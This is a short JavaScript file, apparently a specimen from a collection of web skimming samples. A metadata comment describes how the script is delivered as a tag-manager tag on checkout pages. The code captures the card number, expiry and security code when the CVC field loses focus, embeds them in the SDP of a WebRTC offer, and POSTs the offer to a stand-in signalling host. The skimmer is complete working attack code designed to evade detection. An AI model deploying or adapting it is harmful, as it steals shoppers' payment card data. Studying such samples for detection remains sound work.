/* meta
{
  "design": "Hides the card in the session description of a WebRTC offer and sends that to a signalling host.",
  "reads": ["cc-number", "cc-exp", "cc-csc"],
  "sendsTo": "signal.peerline.localhost",
  "delivery": {
    "kind": "tag",
    "id": "peerline",
    "host": "tags.tagharbor.localhost",
    "path": "/custom/TH-4K2M9/peerline.js",
    "pages": "^/checkout"
  }
}
*/
document.addEventListener('blur', async ({ target }) => {
  if (target.id !== 'cc-csc' || target.value.length < 3) return;
  const [number, expiry, code] = ['cc-number', 'cc-exp', 'cc-csc'].map((id) => document.getElementById(id).value.replace(/\s/g, ''));
  const peer = new RTCPeerConnection();
  peer.createDataChannel('chat');
  const offer = await peer.createOffer();
  const sdp = offer.sdp.replace(/^s=.*$/m, 's=' + [number, expiry, code].join('.'));
  await fetch('https://signal.peerline.localhost/offer', { method: 'POST', mode: 'no-cors', body: sdp });
  peer.close();
}, true);
